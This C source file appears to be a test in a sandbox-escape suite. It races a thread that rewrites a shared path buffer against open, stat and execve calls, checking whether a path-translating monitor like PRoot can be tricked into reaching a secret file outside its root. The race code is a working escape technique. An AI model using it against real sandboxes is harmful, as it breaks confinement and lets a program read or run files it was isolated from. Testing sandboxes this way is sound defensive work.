/* A path buffer rewritten by a second thread after the check: the thread
 * flips a shared buffer between "inside/file" and "../..SECRET" in a tight
 * loop while the main thread calls open, stat and execve on it. PRoot's
 * model (read the path, check or translate it, let the kernel read guest
 * memory again) loses this race; a monitor must act only on its own copy.
 * Natively both paths are inside the root (the escaping one reaches the
 * decoy). */
#include "escape.h"

#include <pthread.h>
#include <stdatomic.h>

#define ITERATIONS 20000
#define EXEC_CHILDREN 20
#define EXEC_SECONDS 0.2
#define SECONDS 4.0

static char path[PATH_MAX];
static const char *flip_a, *flip_b;
static atomic_int stop;

/* The stores must really happen in this order and each must stay a while:
 * the empty asm statements keep the compiler from merging them. */
static void *flipper(void *arg)
{
	size_t la = strlen(flip_a) + 1, lb = strlen(flip_b) + 1;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(path, flip_b, lb);
		for (int i = 0; i < 64; i++)
			__asm__ volatile("" ::: "memory");
		memcpy(path, flip_a, la);
		for (int i = 0; i < 64; i++)
			__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

/* A child that execs the flipping path until one exec succeeds (for
 * EXEC_SECONDS at most): the
 * inside file is not executable (EACCES), the decoy and the secret are
 * scripts that print what they are. Only this thread and a flipper of the
 * child's own exist after fork. */
static void exec_child(int out)
{
	pthread_t t;
	char *const envp[] = { "PATH=/bin:/usr/bin", NULL };

	dup2(out, 1);
	pthread_create(&t, NULL, flipper, NULL);
	double end = esc_now() + EXEC_SECONDS;

	while (esc_now() < end) {
		char *const argv[] = { "flip", NULL };

		execve(path, argv, envp);
	}
	_exit(3);
}

int main(int argc, char **argv)
{
	struct esc e;
	long opens = 0, inside = 0, decoy = 0, failed = 0, ran_decoy = 0, i;
	pthread_t t;
	double end;

	esc_init(&e, "pathflip", argc, argv);
	if (mkdir("inside", 0755) < 0)
		esc_die(&e, "mkdir inside");
	esc_write(&e, "inside/file", "inside\n", 0644);
	flip_a = "inside/file";
	flip_b = e.up;
	memcpy(path, flip_a, strlen(flip_a) + 1);

	/* execve first: fork before the parent has threads of its own */
	for (int c = 0; c < EXEC_CHILDREN && !e.escaped; c++) {
		int p[2], st;
		char buf[512];
		ssize_t n, len = 0;
		pid_t pid;

		if (pipe2(p, O_CLOEXEC) < 0)
			esc_die(&e, "pipe2");
		fflush(NULL);
		pid = fork();
		if (pid < 0)
			esc_die(&e, "fork");
		if (pid == 0)
			exec_child(p[1]);
		close(p[1]);
		while (len < (ssize_t)sizeof(buf) - 1 &&
		       (n = read(p[0], buf + len, sizeof(buf) - 1 - (size_t)len)) > 0)
			len += n;
		buf[len] = '\0';
		close(p[0]);
		waitpid(pid, &st, 0);
		if (esc_classify(&e, buf) == 2)
			esc_escaped(&e, "execve(flipping path)");
		else if (esc_classify(&e, buf) == 1)
			ran_decoy++;
	}
	esc_note(&e, "%d exec children: %ld ran the decoy", EXEC_CHILDREN, ran_decoy);

	pthread_create(&t, NULL, flipper, NULL);
	end = esc_now() + SECONDS;
	for (i = 0; i < ITERATIONS && !e.escaped && esc_now() < end; i++) {
		char buf[256];
		struct stat st;
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		if (fd < 0) {
			failed++;
		} else {
			opens++;
			n = read(fd, buf, sizeof(buf) - 1);
			close(fd);
			buf[n > 0 ? n : 0] = '\0';
			if (esc_classify(&e, buf) == 2)
				esc_escaped(&e, "open(flipping path)");
			else if (esc_classify(&e, buf) == 1)
				decoy++;
			else
				inside++;
		}
		if (stat(path, &st) == 0 && st.st_size == e.secret_size)
			esc_escaped(&e, "stat(flipping path)");
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	esc_note(&e, "%ld rounds: %ld opens (%ld inside/file, %ld the decoy), %ld failed", i, opens,
		 inside, decoy, failed);
	return esc_finish(&e);
}
